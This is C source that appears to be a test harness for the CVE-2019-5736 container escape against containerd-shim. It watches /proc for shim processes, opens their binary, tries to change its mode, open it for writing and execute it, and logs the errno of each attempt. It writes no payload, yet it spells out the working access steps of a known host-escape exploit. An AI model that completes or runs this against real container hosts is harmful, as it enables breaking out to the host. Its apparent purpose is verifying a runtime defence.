/* The attack of CVE-2019-5736 on the shim, by a container with CAP_SYS_PTRACE.
 *
 * Watches for processes that run the shim's binary and come into the container, opens the binary, and tries to
 * change it and to run it. What came of it goes to the log that is the only argument, one "ATTEMPT ERRNO" a line. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static int out;

static void result(const char *attempt, int ret)
{
	dprintf(out, "%s %d\n", attempt, ret < 0 ? errno : 0);
}

static void run(int fd)
{
	pid_t child = fork();
	if (child == 0) {
		char *argv[] = {"shim", "-v", NULL}, *envp[] = {NULL};
		syscall(SYS_execveat, fd, "", argv, envp, AT_EMPTY_PATH);
		result("execute", -1);
		_exit(0);
	}
	waitpid(child, NULL, 0);
}

static int is_shim(const char *link)
{
	char target[4096] = "";
	return readlink(link, target, sizeof target - 1) > 0 && strstr(target, "containerd-shim");
}

static void attack(const char *exe)
{
	char again[64];
	struct stat st;
	int fd = open(exe, O_RDONLY | O_CLOEXEC);
	if (fd < 0) {
		result("read", fd);
		return;
	}
	snprintf(again, sizeof again, "/proc/self/fd/%d", fd);
	/* Between the look at the link and the open the process may have become the container's command. */
	if (!is_shim(again) || fstat(fd, &st) < 0) {
		close(fd);
		return;
	}
	result("read", fd);
	/* Unprotected this succeeds and changes nothing; a running program that can be written to is ETXTBSY. */
	result("mode", fchmod(fd, st.st_mode & 07777));
	int write = open(again, O_WRONLY | O_CLOEXEC);
	result("write", write);
	if (write >= 0)
		close(write);
	result("mode-by-name", chmod(again, st.st_mode & 07777));
	run(fd);
	close(fd);
}

int main(int argc, char **argv)
{
	if (argc < 2)
		return 2;
	out = open(argv[1], O_WRONLY | O_CREAT | O_APPEND, 0666);
	for (;;) {
		DIR *proc = opendir("/proc");
		for (struct dirent *entry; (entry = readdir(proc)) != NULL;) {
			char exe[64];
			if (entry->d_name[0] < '1' || entry->d_name[0] > '9')
				continue;
			snprintf(exe, sizeof exe, "/proc/%.16s/exe", entry->d_name);
			if (is_shim(exe))
				attack(exe);
		}
		closedir(proc);
	}
}
